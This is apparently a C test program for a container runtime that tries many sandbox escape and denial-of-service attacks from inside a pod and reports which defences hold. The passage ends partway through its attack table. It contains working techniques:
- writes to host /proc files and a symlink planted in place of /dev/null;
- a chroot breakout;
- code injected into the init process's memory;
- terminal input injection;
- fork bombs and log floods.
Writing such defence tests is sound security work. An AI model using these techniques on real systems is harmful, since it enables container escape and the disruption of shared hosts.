/* SPDX-License-Identifier: Apache-2.0 */
/* An app that wants out. `hostile ATTACK...` tries each and says `ATTACK=held`, or `ATTACK=BROKEN what got
 * through`; exit status 0 all the same. It opens what it should not and never writes there: a broken defence
 * is told, not used. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fs.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define _unused __attribute__((unused))

static const char *attack;
static bool broken;

__attribute__((format(printf, 1, 2))) static void through(const char *format, ...)
{
    va_list ap;

    va_start(ap, format);
    printf("%s=BROKEN ", attack);
    vprintf(format, ap);
    putchar('\n');
    va_end(ap);
    broken = true;
}

/* ----- Files that are the host's ----- */

static void open_for_writing(const char *path)
{
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

    if (fd < 0)
        return;
    through("%s can be opened for writing", path);
    close(fd);
}

/* What a root without privileges may write there: its own processes' files, and those that say no later. */
static bool is_harmless(const char *path)
{
    static const char *const harmless[] = { "/proc/pressure/" };

    if (path[strlen("/proc/")] >= '0' && path[strlen("/proc/")] <= '9')
        return true;
    for (size_t i = 0; i < sizeof(harmless) / sizeof(*harmless); i++)
        if (strncmp(path, harmless[i], strlen(harmless[i])) == 0)
            return true;
    return strncmp(path, "/proc/sys/net/", strlen("/proc/sys/net/")) == 0 && getenv("OWN_NETWORK");
}

static int sweep_one(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    if (type == FTW_D && ftw->level == 1 && path[6] >= '0' && path[6] <= '9')
        return FTW_SKIP_SUBTREE;
    if (type == FTW_F && S_ISREG(st->st_mode) && (st->st_mode & 0222) && !is_harmless(path))
        open_for_writing(path);
    return FTW_CONTINUE;
}

/* Everything in /proc and /sys that is no process' own. */
static void kernel_files(void)
{
    nftw("/proc", sweep_one, 32, FTW_PHYS | FTW_ACTIONRETVAL);
    nftw("/sys", sweep_one, 32, FTW_PHYS | FTW_ACTIONRETVAL);
}

/* By every way that leads to a procfs. */
static void write_to_proc(const char *name)
{
    static const char *const ways[] = { "/proc", "/proc/1/root/proc", "/proc/self/root/proc",
                                        "/proc/thread-self/root/proc" };
    char path[128];

    for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
        snprintf(path, sizeof(path), "%s/%s", ways[i], name);
        open_for_writing(path);
    }
}

static void core_pattern(void)
{
    write_to_proc("sys/kernel/core_pattern");
}

static void sysrq(void)
{
    write_to_proc("sysrq-trigger");
}

/* The same files by the way of the pod's init, whose procfs is another mount. */
static void init_proc(void)
{
    static const char *const files[] = { "sys/kernel/core_pattern", "sys/kernel/modprobe", "sysrq-trigger",
                                         "sys/vm/overcommit_memory" };
    char path[128];

    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
        snprintf(path, sizeof(path), "/proc/1/root/proc/%s", files[i]);
        open_for_writing(path);
    }
}

/* Standard input as it was given to us; see "plant-null". */
static void standard_input(void)
{
    char path[256] = "";
    struct stat st;

    (void) !readlink("/proc/self/fd/0", path, sizeof(path) - 1);
    if (fstat(0, &st) < 0 || !S_ISCHR(st.st_mode) || st.st_rdev != makedev(1, 3))
        through("it is %s", path);
}

/* For the handler before: who opens this app's /dev/null next, with all rights, opens what decides the
 * host's core dumps. */
static void plant_null(void)
{
    if (unlink("/dev/null") < 0 || symlink("/proc/1/root/proc/sys/kernel/core_pattern", "/dev/null") < 0)
        through("could not plant it: %s", strerror(errno));
}

static void cgroup_files(void)
{
    char line[4096];
    FILE *file = fopen("/proc/self/mountinfo", "re");

    while (file && fgets(line, sizeof(line), file))
        if (strstr(line, " - cgroup"))
            through("mounted: %s", line);
    if (file)
        fclose(file);
    open_for_writing("/sys/fs/cgroup/cgroup.procs");
    open_for_writing("/sys/fs/cgroup/release_agent");
}

/* ----- Ways to the host's directories ----- */

static const char *const host_names[] = { "host-marker", "system.slice", "init.scope" };

static void climb(const char *start)
{
    int fd = open(start, O_PATH | O_DIRECTORY | O_CLOEXEC);

    for (unsigned level = 0; fd >= 0 && level < 40; level++) {
        int next;

        for (size_t i = 0; i < sizeof(host_names) / sizeof(*host_names); i++)
            if (faccessat(fd, host_names[i], F_OK, AT_SYMLINK_NOFOLLOW) >= 0) {
                through("%s and %u times \"..\" lead to %s", start, level, host_names[i]);
                level = 40;
            }
        next = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        close(fd);
        fd = next;
    }
    if (fd >= 0)
        close(fd);
}

static void walk_process(const char *pid)
{
    static const char *const links[] = { "root", "cwd" };
    char path[300];
    struct dirent *entry;
    DIR *dir;

    for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
        snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
        climb(path);
    }
    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    dir = opendir(path);
    while (dir && (entry = readdir(dir))) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "/proc/%.20s/fd/%.20s", pid, entry->d_name);
        climb(path);
    }
    if (dir)
        closedir(dir);
}

static void directories(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    climb(".");
    while (proc && (entry = readdir(proc)))
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
            walk_process(entry->d_name);
    if (proc)
        closedir(proc);
}

/* CAP_SYS_CHROOT is every app's: out of one's own root into the one of the mount namespace. */
static void chroot_out(void)
{
    int fd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    pid_t pid;

    fflush(stdout);
    pid = fork();
    if (pid == 0) {
        mkdir("/tmp/jail", 0755);
        if (chroot("/tmp/jail") >= 0 && fchdir(fd) >= 0) {
            for (unsigned level = 0; level < 64; level++)
                (void) !chdir("..");
            if (chroot(".") >= 0)
                climb("/");
            climb(".");
        }
        fflush(stdout);
        _exit(broken);
    }
    close(fd);
    if (waitpid(pid, &fd, 0) >= 0 && fd != 0)
        broken = true;
}

/* The pod's own directory on the host says what root does with it later: whoever gets to the init's
 * descriptors must not change it. What the init itself writes there is harmless. */
static void plant_in(const char *path)
{
    static const char *const names[] = { "plan", "pod", "manifest", "pid", "filter-0", "planted" };
    int dir = open(path, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC);

    if (dir < 0)
        return;
    if (faccessat(dir, "plan", F_OK, AT_SYMLINK_NOFOLLOW) >= 0 || faccessat(dir, "stage1", F_OK, 0) >= 0)
        for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
            int fd = openat(dir, names[i], O_WRONLY | O_CREAT | O_NOFOLLOW | O_CLOEXEC, 0600);

            if (fd < 0)
                continue;
            through("%s of %s can be written", names[i], path);
            close(fd);
        }
    close(dir);
}

static void pod_files(void)
{
    char path[64];

    for (int fd = 0; fd < 256; fd++) {
        snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
        plant_in(path);
        snprintf(path, sizeof(path), "/proc/1/fd/%d/..", fd);
        plant_in(path);
    }
}

/* For `--working-dir=/proc/self/fd/N`. */
static void stand(void)
{
    climb(".");
}

/* ----- Devices ----- */

static void device(const char *directory, mode_t type, unsigned major, unsigned minor)
{
    char path[64];
    int fd;

    snprintf(path, sizeof(path), "%s/hostile-node", directory);
    unlink(path);
    if (mknod(path, type | 0600, makedev(major, minor)) < 0)
        return;
    fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd >= 0) {
        through("%s device %u:%u can be opened in %s", S_ISBLK(type) ? "block" : "character", major, minor,
                directory);
        close(fd);
    }
    unlink(path);
}

static void devices(void)
{
    static const struct {
        mode_t type;
        unsigned major, minor;
    } nodes[] = {
        { S_IFCHR, 1, 1 },   { S_IFCHR, 1, 2 },    { S_IFCHR, 1, 4 },    { S_IFCHR, 1, 11 },
        { S_IFCHR, 5, 1 },   { S_IFCHR, 10, 229 }, { S_IFCHR, 10, 232 }, { S_IFCHR, 10, 237 },
        { S_IFCHR, 4, 0 },   { S_IFBLK, 7, 0 },    { S_IFBLK, 8, 0 },    { S_IFBLK, 253, 0 },
        { S_IFBLK, 254, 0 }, { S_IFBLK, 259, 0 },
    };
    static const char *const places[] = { "/dev", "/tmp", "/dev/shm" };

    for (size_t i = 0; i < sizeof(nodes) / sizeof(*nodes); i++)
        for (size_t j = 0; j < sizeof(places) / sizeof(*places); j++)
            device(places[j], nodes[i].type, nodes[i].major, nodes[i].minor);
}

/* Every disk that the kernel tells of, and where the files of this root lie. */
static void host_disks(void)
{
    FILE *file = fopen("/proc/partitions", "re");
    unsigned major_number, minor_number;
    char line[256];
    struct stat st;

    while (file && fgets(line, sizeof(line), file))
        if (sscanf(line, "%u %u", &major_number, &minor_number) == 2) {
            device("/dev", S_IFBLK, major_number, minor_number);
            device("/tmp", S_IFBLK, major_number, minor_number);
        }
    if (file)
        fclose(file);
    file = fopen("/proc/self/mountinfo", "re");
    while (file && fgets(line, sizeof(line), file))
        if (sscanf(line, "%*u %*u %u:%u", &major_number, &minor_number) == 2 && major_number != 0)
            device("/dev", S_IFBLK, major_number, minor_number);
    if (file)
        fclose(file);
    if (stat("/volume", &st) >= 0 && major(st.st_dev) != 0)
        device("/volume", S_IFBLK, major(st.st_dev), minor(st.st_dev));
}

/* ----- Calls that are refused ----- */

/* In a child, which may end by SIGSYS: 0, an errno, or -1 for the signal. */
static int outcome(long (*perform)(long), long argument)
{
    pid_t pid;
    int status;

    fflush(stdout);
    pid = fork();
    if (pid == 0)
        _exit(perform(argument) < 0 ? errno : 0);
    if (pid < 0 || waitpid(pid, &status, 0) < 0)
        return 0;
    return WIFSIGNALED(status) ? -1 : WEXITSTATUS(status);
}

static bool is_refusal(int result)
{
    return result == -1 || result == EPERM || result == ENOSYS || result == EACCES;
}

static long bare_call(long number)
{
    return syscall(number, -1L, -1L, -1L, -1L, -1L, -1L);
}

/* ----- Mounts ----- */

/* What lies behind a mask shows itself by being no empty directory, and no empty file. */
static bool is_masked(const char *path)
{
    struct dirent *entry;
    DIR *dir = opendir(path);
    char byte;
    int fd;

    if (dir) {
        do
            entry = readdir(dir);
        while (entry && entry->d_name[0] == '.');
        closedir(dir);
        return !entry;
    }
    fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0)
        return true;
    if (read(fd, &byte, 1) > 0) {
        close(fd);
        return false;
    }
    close(fd);
    return true;
}

static const char *target; /* of what follows */

static long take_away(_unused long flags)
{
    return umount2(target, (int) flags);
}

static long bind_over(_unused long flags)
{
    return mount("/dev", target, NULL, MS_BIND, NULL);
}

static long make_writable(_unused long flags)
{
    return mount(NULL, target, NULL, (unsigned long) (MS_REMOUNT | flags), NULL);
}

static long share(_unused long flags)
{
    return mount(NULL, target, NULL, MS_SHARED, NULL);
}

static long look_beneath(_unused long flags)
{
    return syscall(SYS_open_tree, AT_FDCWD, target, (unsigned) flags);
}

static long mount_anew(_unused long unused)
{
    return mount("none", "/tmp", target, 0, NULL);
}

static void try_on(const char *path, const char *what, long (*perform)(long), long argument)
{
    target = path;
    if (!is_refusal(outcome(perform, argument)))
        through("%s: %s", path, what);
}

static void unmask(void)
{
    static const char *const masked[] = { "/proc/kcore", "/proc/keys", "/proc/kallsyms",  "/proc/timer_list",
                                          "/proc/scsi",  "/proc/acpi", "/proc/config.gz", "/sys/firmware",
                                          "/sys/module", "/sys/fs",    "/sys/power" };

    for (size_t i = 0; i < sizeof(masked) / sizeof(*masked); i++) {
        if (access(masked[i], F_OK) < 0)
            continue;
        try_on(masked[i], "unmounted", take_away, MNT_DETACH);
        try_on(masked[i], "covered", bind_over, 0);
        if (!is_masked(masked[i]))
            through("%s can be read", masked[i]);
    }
    try_on("/proc", "seen without its masks", look_beneath, 1 /* OPEN_TREE_CLONE */);
    try_on("/sys", "seen without its masks", look_beneath, 1);
}

static void remount(void)
{
    static const char *const read_only[] = { "/proc/sys", "/proc/sysrq-trigger", "/proc/irq", "/proc/bus",
                                             "/sys" };

    for (size_t i = 0; i < sizeof(read_only) / sizeof(*read_only); i++) {
        if (access(read_only[i], F_OK) < 0)
            continue;
        try_on(read_only[i], "writable", make_writable, MS_BIND);
        try_on(read_only[i], "writable at the root", make_writable, 0);
        try_on(read_only[i], "unmounted", take_away, MNT_DETACH);
    }
}

static void new_mounts(void)
{
    static const char *const types[] = { "proc",     "sysfs",   "cgroup",   "cgroup2",
                                         "tmpfs",    "debugfs", "devtmpfs", "securityfs",
                                         "configfs", "bpf",     "overlay",  "mqueue" };

    for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++)
        try_on(types[i], "mounted", mount_anew, 0);
}

/* Into what the host has given; the host looks whether it sees something. */
static void propagation(void)
{
    try_on("/volume", "covered", bind_over, 0);
    try_on("/volume", "made shared", share, 0);
    mkdir("/volume/below", 0755);
    try_on("/volume/below", "covered", bind_over, 0);
}

/* Of a file system that the host uses, by whatever file of it. */
static void freeze_files(void)
{
    static const char *const files[] = { "/", "/etc/resolv.conf", "/etc/hosts", "/run/systemd/journal",
                                         "/volume" };
    static const unsigned long requests[] = { FIFREEZE, FITHAW, 0x8004587d /* FS_IOC_SHUTDOWN */ };

    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++)
        for (size_t j = 0; j < sizeof(requests) / sizeof(*requests); j++) {
            int fd = open(files[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);

            if (fd < 0)
                continue;
            /* Any other error comes from the file system, which was asked then. */
            if (syscall(SYS_ioctl, fd, requests[j], 0) >= 0 || errno != EPERM)
                through("%s: request %#lx: %s", files[i], requests[j], strerror(errno));
            close(fd);
        }
}

/* ----- The runtime ----- */

/* A running program can't be written to anyway (ETXTBSY): what counts is that its mount is read-only. */
static void runtime(void)
{
    if (utimensat(AT_FDCWD, "/proc/1/exe", NULL, 0) >= 0)
        through("the program of the pod's init can be changed");
    open_for_writing("/proc/1/exe");
    climb("/proc/1/exe/..");
}

static long trace(long pid)
{
    return ptrace(PTRACE_SEIZE, (pid_t) pid, NULL, NULL);
}

static void memory_of_init(void)
{
    int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);

    if (fd >= 0)
        through("the memory of the pod's init can be written");
    if (!is_refusal(outcome(trace, 1)))
        through("the pod's init can be traced");
}

static unsigned long long init_rights(void)
{
    FILE *file = fopen("/proc/1/status", "re");
    unsigned long long rights, all = 0;
    char line[4096];

    while (file && fgets(line, sizeof(line), file))
        if (sscanf(line, "CapPrm: %llx", &rights) == 1 || sscanf(line, "CapBnd: %llx", &rights) == 1)
            all |= rights;
    if (file)
        fclose(file);
    return all;
}

static const unsigned long long kept = 1ULL << 5; /* KILL */

/* Whoever may take over the pod's init must not win anything, from its first instruction on. */
static void rights_at_once(void)
{
    unsigned long long rights = init_rights();

    if (rights != kept)
        through("the init has %#llx", rights);
}

/* Others could not, and it may need a moment to get there. */
static void rights_of_init(void)
{
    for (unsigned i = 0; i < 100 && init_rights() != kept; i++)
        usleep(50 * 1000);
    if (init_rights() != kept)
        through("%#llx", init_rights());
}

#ifdef __x86_64__
/* Sends the text to each descriptor that is a socket, then sleeps for ever. */
__asm__(".pushsection .rodata\n"
        "puppet:\n"
        "    movl $3, %ebx\n"
        "1:  movl %ebx, %edi\n"
        "    leaq puppet_text(%rip), %rsi\n"
        "    movl $64, %edx\n"
        "    movl $0x4040, %r10d\n" /* MSG_DONTWAIT | MSG_NOSIGNAL */
        "    xorl %r8d, %r8d\n"
        "    xorl %r9d, %r9d\n"
        "    movl $44, %eax\n"
        "    syscall\n"
        "    incl %ebx\n"
        "    cmpl $256, %ebx\n"
        "    jb 1b\n"
        "2:  movl $34, %eax\n"
        "    syscall\n"
        "    jmp 2b\n"
        "puppet_text:\n"
        "    .fill 64, 1, 10\n"
        "puppet_end:\n"
        ".popsection\n");
extern const char puppet[], puppet_text[], puppet_end[];

/* Where the system call that the pod's init waits in returns to; 0: it can't be told. */
static off_t where_init_waits(void)
{
    char line[256] = "";

    for (unsigned i = 0; i < 40; i++) {
        FILE *file = fopen("/proc/1/syscall", "re");
        const char *last = file && fgets(line, sizeof(line), file) ? strrchr(line, ' ') : NULL;

        if (file)
            fclose(file);
        if (last && *line >= '0' && *line <= '9')
            return (off_t) strtoul(last, NULL, 16);
        usleep(50 * 1000);
    }
    return 0;
}

/* The pod's init runs what we write there, and is woken. Its text goes to whoever it has a socket to: $WORDS.
 */
static void puppet_init(void)
{
    int memory = open("/proc/1/mem", O_RDWR | O_CLOEXEC),
        console = open("/dev/console", O_WRONLY | O_CLOEXEC);
    const char *words = getenv("WORDS");
    size_t size = (size_t) (puppet_end - puppet);
    off_t where = where_init_waits();
    char code[512];

    memcpy(code, puppet, size);
    if (words)
        memcpy(code + (puppet_text - puppet), words, strlen(words));
    if (where == 0 || pwrite(memory, code, size, where) != (ssize_t) size || write(console, "\n", 1) != 1)
        printf("%s=not tried: %s\n", attack, strerror(errno));
    else
        printf("%s=sent\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}
#else
static void puppet_init(void)
{
    printf("%s=not tried\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}
#endif

/* ----- The filter ----- */

#define CALL(attack, name)                                                                                   \
    {                                                                                                        \
        attack, #name, SYS_##name                                                                            \
    }

/* Those of the attack that is on. */
static void calls(void)
{
    static const struct {
        const char *attack, *name;
        long number;
    } refused[] = {
        CALL("mount-calls", mount),
        CALL("mount-calls", umount2),
        CALL("mount-calls", pivot_root),
        CALL("mount-calls", open_tree),
        CALL("mount-calls", move_mount),
        CALL("mount-calls", fsopen),
        CALL("mount-calls", fsconfig),
        CALL("mount-calls", fsmount),
        CALL("mount-calls", fspick),
        CALL("mount-calls", mount_setattr),
        CALL("namespace-calls", setns),
        CALL("namespace-calls", unshare),
        CALL("namespace-calls", clone3),
        CALL("bpf", bpf),
        CALL("perf", perf_event_open),
        CALL("userfaultfd", userfaultfd),
        CALL("io-uring", io_uring_setup),
        CALL("keyring", keyctl),
        CALL("keyring", add_key),
        CALL("keyring", request_key),
        CALL("trace-calls", ptrace),
        CALL("trace-calls", process_vm_readv),
        CALL("trace-calls", process_vm_writev),
        CALL("trace-calls", pidfd_getfd),
        CALL("trace-calls", kcmp),
        CALL("file-handles", open_by_handle_at),
        CALL("file-handles", name_to_handle_at),
        CALL("file-handles", fanotify_init),
        CALL("kernel-code", kexec_load),
        CALL("kernel-code", init_module),
        CALL("kernel-code", finit_module),
        CALL("kernel-code", delete_module),
        CALL("machine", reboot),
        CALL("machine", swapon),
        CALL("machine", swapoff),
        CALL("machine", quotactl),
        CALL("machine", acct),
        CALL("machine", settimeofday),
        CALL("machine", clock_settime),
        CALL("machine", adjtimex),
        CALL("machine", sethostname),
        CALL("machine", vhangup),
    };

    for (size_t i = 0; i < sizeof(refused) / sizeof(*refused); i++) {
        int result;

        if (strcmp(refused[i].attack, attack) != 0)
            continue;
        result = outcome(bare_call, refused[i].number);
        if (!is_refusal(result))
            through("%s: %s", refused[i].name, result == 0 ? "done" : strerrorname_np(result));
    }
}

static long clone_with(long flags)
{
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0L, 0L, 0L, 0L);

    if (pid == 0)
        _exit(0);
    return pid;
}

static long unshare_with(long flags)
{
    return unshare((int) flags);
}

static void namespaces(void)
{
    static const long flags[] = { CLONE_NEWNS,  CLONE_NEWUSER, CLONE_NEWPID,   CLONE_NEWNET,
                                  CLONE_NEWIPC, CLONE_NEWUTS,  CLONE_NEWCGROUP };

    for (size_t i = 0; i < sizeof(flags) / sizeof(*flags); i++) {
        if (!is_refusal(outcome(clone_with, flags[i])))
            through("clone with %#lx", (unsigned long) flags[i]);
        if (!is_refusal(outcome(unshare_with, flags[i])))
            through("unshare with %#lx", (unsigned long) flags[i]);
    }
}

#if defined(__x86_64__)
static long x32_call(long number)
{
    return bare_call(number | 0x40000000);
}

static long i386_call(long number)
{
    long result;

    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "0"(number), "b"(-1L), "c"(-1L), "d"(-1L), "S"(-1L), "D"(-1L)
                     : "memory", "cc", "r8", "r9", "r10", "r11");
    errno = (int) -result;
    return result < 0 ? -1 : result;
}

static void other_doors(void)
{
    static const long i386_refused[] = { 21 /* mount */,    26 /* ptrace */,       52 /* umount2 */,
                                         88 /* reboot */,   128 /* init_module */, 288 /* keyctl */,
                                         310 /* unshare */, 346 /* setns */,       357 /* bpf */ };
    static const long x32_refused[] = { SYS_getpid, SYS_mount, SYS_unshare };

    for (size_t i = 0; i < sizeof(i386_refused) / sizeof(*i386_refused); i++)
        if (!is_refusal(outcome(i386_call, i386_refused[i])))
            through("i386 call %ld", i386_refused[i]);
    for (size_t i = 0; i < sizeof(x32_refused) / sizeof(*x32_refused); i++)
        if (!is_refusal(outcome(x32_call, x32_refused[i])))
            through("x32 call %ld", x32_refused[i]);
}
#else
static void other_doors(void) {}
#endif

/* ----- Sockets ----- */

/* Its other end is the hypervisor or the host, whatever the pod's network. */
static void vsock(void)
{
    if (socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0) >= 0 || errno != EAFNOSUPPORT)
        through("socket: %s", strerror(errno));
#if defined(__x86_64__)
    /* socketcall(2) of a 32-bit program, which takes the family from memory. */
    unsigned *arguments =
            mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    long result;

    if (arguments == MAP_FAILED) {
        through("no memory to try it with: %s", strerror(errno));
        return;
    }
    memcpy(arguments, (unsigned[]){ AF_VSOCK, SOCK_STREAM, 0 }, 3 * sizeof(unsigned));
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "0"(102L), "b"(1L), "c"(arguments)
                     : "memory", "cc", "r8", "r9", "r10", "r11");
    if (result != -ENOSYS)
        through("socketcall: %ld", result);
#endif
}

/* A service of the host, which listens on this name. */
static void abstract(void)
{
    static const char name[] = "rkt-host-abstract";
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    memcpy(address.sun_path + 1, name, sizeof(name) - 1);
    if (connect(fd, (struct sockaddr *) &address, offsetof(struct sockaddr_un, sun_path) + sizeof(name)) >= 0)
        through("connected");
    close(fd);
}

/* In a volume that another pod mounts below: the target goes away and comes back as a link, all the time. */
static void swap_target(void)
{
    mkdir("/volume/target", 0755);
    (void) !symlink("../../../../../../../run/host-target", "/volume/link");
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, "/volume/target", AT_FDCWD, "/volume/link", 2 /* RENAME_EXCHANGE */);
}

/* ----- Terminals ----- */

static void terminal(void)
{
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), slave;

    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) {
        through("there is no terminal to try it with: %s", strerror(errno));
        return;
    }
    slave = open(ptsname(master), O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (slave < 0) {
        through("cannot open %s: %s", ptsname(master), strerror(errno));
        return;
    }
    errno = 0;
    if (ioctl(slave, TIOCSTI, "x") >= 0 || errno != EPERM)
        through("TIOCSTI: %s", strerror(errno));
    errno = 0;
    if (ioctl(slave, TIOCLINUX, "\2") >= 0 || errno != EPERM)
        through("TIOCLINUX: %s", strerror(errno));
    errno = 0;
    if (ioctl(slave, TIOCCONS, 0) >= 0 || errno != EPERM)
        through("TIOCCONS: %s", strerror(errno));
    errno = 0;
    if (syscall(SYS_ioctl, slave, 0x100000000UL | TIOCSTI, "x") >= 0 || errno != EPERM)
        through("TIOCSTI with an upper half: %s", strerror(errno));
    if (open("/dev/tty", O_RDWR | O_CLOEXEC) >= 0)
        through("there is a controlling terminal");
}

/* ----- The pod's init ----- */

/* As if the host had sent it: sender 0, which the kernel lets anybody claim. */
static void queue_forged(int number)
{
    siginfo_t info = { .si_signo = number, .si_code = SI_QUEUE };

    syscall(SYS_rt_sigqueueinfo, 1, number, &info);
}

/* A descriptor that has the kernel send it. */
static void send_by_descriptor(int number)
{
    int pair[2];

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return;
    fcntl(pair[0], F_SETOWN, 1);
    fcntl(pair[0], F_SETSIG, number);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0)
        through("no signal was sent");
    close(pair[0]);
    close(pair[1]);
}

/* Whether the init minds shows only later, from outside. */
static void signals(void)
{
    for (int number = 1; number <= SIGRTMAX; number++) {
        kill(1, number);
        queue_forged(number);
        send_by_descriptor(number);
    }
}

static void notify_flood(void)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/run/systemd/notify" };
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    signal(SIGTERM, SIG_IGN);
    if (connect(fd, (struct sockaddr *) &address, sizeof(address)) < 0) {
        through("cannot connect: %s", strerror(errno));
        return;
    }
    for (int i = 0; i < 3; i++)
        if (fork() == 0)
            for (;;)
                if (write(fd, "STATUS=x\nREADY=1", 16) < 0 && errno != EAGAIN && errno != ENOBUFS)
                    _exit(1);
    puts("notify-flood=begun");
    fflush(stdout);
    for (;;)
        pause();
}

/* Children of the init that end, as fast as can be. Not without end: the machine may have no limit of its
 * own. */
static void orphan_flood(void)
{
    signal(SIGTERM, SIG_IGN);
    for (int i = 0; i < 3; i++)
        if (fork() == 0)
            for (int n = 0; n < 20000; n++) {
                pid_t pid = fork();

                if (pid == 0)
                    _exit(fork() < 0);
                (void) waitpid(pid, NULL, 0);
            }
    for (;;)
        pause();
}

/* By each way into the journal. */
static void journal_flood(void)
{
    struct sockaddr_un log = { .sun_family = AF_UNIX, .sun_path = "/dev/log" };
    struct sockaddr_un native = { .sun_family = AF_UNIX, .sun_path = "/run/systemd/journal/socket" };
    static char line[4096];

    signal(SIGTERM, SIG_IGN);
    memset(line, 'x', sizeof(line));
    line[sizeof(line) - 1] = '\n';
    memcpy(line, "MESSAGE=<3>", 11);
    for (int i = 0; i < 3; i++) {
        int fd = i == 0 ? STDOUT_FILENO : socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        if (i > 0)
            (void) connect(fd, (struct sockaddr *) (i == 1 ? &log : &native), sizeof(log));
        if (fork() == 0)
            for (;;)
                (void) !write(fd, line, sizeof(line));
    }
    for (;;)
        pause();
}

/* All that there is room for, in sessions of their own and deaf. */
static void fork_bomb(void)
{
    unsigned n = 0;

    signal(SIGTERM, SIG_IGN);
    for (;;) {
        pid_t pid = fork();

        if (pid == 0) {
            setsid();
            for (;;)
                if (fork() < 0)
                    sleep(1);
        }
        if (pid < 0) {
            printf("fork-bomb=full after %u\n", n);
            fflush(stdout);
            break;
        }
        n++;
    }
    for (;;)
        pause();
}

static void console_flood(void)
{
    static char bytes[65536];
    int fd = open("/dev/console", O_WRONLY | O_CLOEXEC);

    signal(SIGTERM, SIG_IGN);
    memset(bytes, 'x', sizeof(bytes));
    if (fd < 0)
        through("cannot open the console: %s", strerror(errno));
    for (int i = 0; i < 2; i++)
        if (fork() == 0)
            for (;;)
                (void) !write(i ? STDOUT_FILENO : fd, bytes, sizeof(bytes));
    for (;;)
        pause();
}

/* Each in a session of its own and deaf. */
static void crowd(void)
{
    signal(SIGTERM, SIG_IGN);
    for (int i = 0; i < 300; i++)
        if (fork() == 0) {
            setsid();
            for (;;)
                pause();
        }
    for (;;)
        pause();
}

/* ----- What whoever started the pod left us ----- */

static void status_line(const char *key, const char *expected)
{
    FILE *file = fopen("/proc/self/status", "re");
    size_t n = strlen(key);
    char line[4096];

    while (file && fgets(line, sizeof(line), file)) {
        char *value = line + n + strspn(line + n, " \t");

        line[strcspn(line, "\n")] = '\0';
        if (strncmp(line, key, n) == 0 && strcmp(value, expected) != 0)
            through("%s", line);
    }
    if (file)
        fclose(file);
}

static void surroundings(void)
{
    static const char none[] = "0000000000000000";

    status_line("Umask:", "0022");
    status_line("SigBlk:", none);
    status_line("SigIgn:", none);
    status_line("SigPnd:", none);
    status_line("ShdPnd:", none);
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            through("descriptor %d is open", fd);
    for (int fd = 0; fd < 3; fd++)
        if (fcntl(fd, F_GETFD) < 0)
            through("descriptor %d is closed", fd);
    if (getenv("FOREIGN"))
        through("a variable of whoever started us");
}

/* ----- What is said ----- */

static const struct {
    const char *name;
    void (*perform)(void);
} attacks[] = {
    { "kernel-files", kernel_files },
    { "init-proc", init_proc },
    { "core-pattern", core_pattern },
    { "sysrq", sysrq },
    { "unmask", unmask },
    { "remount", remount },
    { "new-mounts", new_mounts },
    { "propagation", propagation },
    { "freeze-files", freeze_files },
    { "chroot", chroot_out },
    { "pod-files", pod_files },
    { "host-disks", host_disks },
    { "rights-at-once", rights_at_once },
    { "standard-input", standard_input },
    { "plant-null", plant_null },
    { "cgroup-files", cgroup_files },
    { "directories", directories },
    { "stand", stand },
    { "runtime", runtime },
    { "memory-of-init", memory_of_init },
    { "rights-of-init", rights_of_init },
    { "puppet-init", puppet_init },
    { "devices", devices },
    { "mount-calls", calls },
    { "namespace-calls", calls },
    { "bpf", calls },
    { "perf", calls },
    { "userfaultfd", calls },
    { "io-uring", calls },
    { "keyring", calls },
    { "trace-calls", calls },
